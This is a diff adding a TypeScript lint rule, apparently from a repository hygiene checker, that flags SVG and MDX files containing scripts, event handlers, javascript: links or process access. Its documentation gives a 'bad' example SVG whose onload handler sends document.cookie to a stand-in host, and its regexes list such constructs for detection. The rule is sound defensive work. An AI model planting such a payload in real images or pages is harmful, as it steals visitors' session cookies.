@@ -1,0 +1,43 @@
+import type { Rule } from '../../model.js';
+import { newLinesOf } from '../new-lines.js';
+import { nameOf } from '../wording.js';
+
+/** A picture or a document that runs code where it is shown. */
+export const activeContent: Rule = {
+  id: 'hygiene/active-content',
+  severity: 'warn',
+  summary: 'A picture or document runs code',
+  docs: {
+    why: 'An SVG file opened by itself is a page: its scripts run with the rights of the site that serves it. In a document of MDX, code runs where it is built and read.',
+    bad: '<svg onload="fetch(\'//x.example/\' + document.cookie)">',
+    good: '<svg viewBox="0 0 24 24"><path d="…"/></svg>',
+  },
+  suppressible: true,
+  check(context) {
+    return newLinesOf(
+      context,
+      ({ file, class: kind }) => /\.(?:svg|mdx)$/iu.test(file.path) && kind !== 'vendored',
+    ).flatMap(({ change, lines }) => {
+      const pattern = change.file.path.toLowerCase().endsWith('.svg') ? IN_SVG : IN_MDX;
+      const line = lines.find(({ text }) => pattern.test(text.slice(0, 20_000)));
+      if (line === undefined) return [];
+      return [
+        {
+          file: change.file.path,
+          first: line.number,
+          last: line.number,
+          title: `${nameOf(change.file.path)} runs code where it is shown`,
+          rationale:
+            'Whoever opens it runs what stands here. If it is only to be looked at, take the script, the handler or the address out.',
+          anchor: line.text.slice(0, 200),
+          ...(change.class === 'test' ? { severity: 'info' as const } : {}),
+        },
+      ];
+    });
+  },
+};
+
+const IN_SVG =
+  /<script\b|[\s"']on(?:load|error|click|mouse\w{1,10}|focus\w{0,3}|blur|begin|end|repeat|key\w{1,6}|activate|toggle)\s{0,4}=|(?:href|src)\s{0,4}=\s{0,4}["']?\s{0,4}(?:javascript|data:text\/html)|<foreignObject\b[^>]{0,500}>\s{0,10}<(?:iframe|embed|object)\b/iu;
+const IN_MDX =
+  /<script\b|\bdangerouslySetInnerHTML\b|\b(?:child_process|process\.env)\b|(?:href|src)\s{0,4}=\s{0,4}["']\s{0,4}javascript:/iu;
